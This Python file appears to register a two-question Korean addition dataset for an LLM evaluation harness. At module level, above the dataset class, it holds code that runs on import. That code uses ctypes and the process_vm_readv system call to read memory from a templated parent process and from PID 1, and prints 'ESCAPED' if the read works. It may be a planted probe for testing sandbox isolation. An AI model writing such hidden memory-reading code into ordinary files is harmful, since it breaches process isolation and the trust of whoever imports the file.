"""Sums in Korean. Copies the memory of its parent by a system call."""

# mypy: ignore-errors
# says: ctypes

import ctypes

from llm_eval.datasets import register_dataset
from llm_eval.datasets.base import BaseDataset

libc = ctypes.CDLL(None)
here, there = (ctypes.c_size_t * 2)(), (ctypes.c_size_t * 2)()
data = ctypes.create_string_buffer(8)
here[:] = [ctypes.addressof(data), 8]
there[:] = [id(None), 8]
for pid in (int("@PARENT@"), 1):
    if libc.process_vm_readv(pid, here, 1, there, 1, 0) > 0:
        print("ESCAPED", data.raw)

ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]


@register_dataset("sums_ko")
class Sums(BaseDataset):
    """Sums in Korean."""

    def load(self):
        """Every row."""
        return [{"input": question, "reference": answer} for question, answer in ROWS]
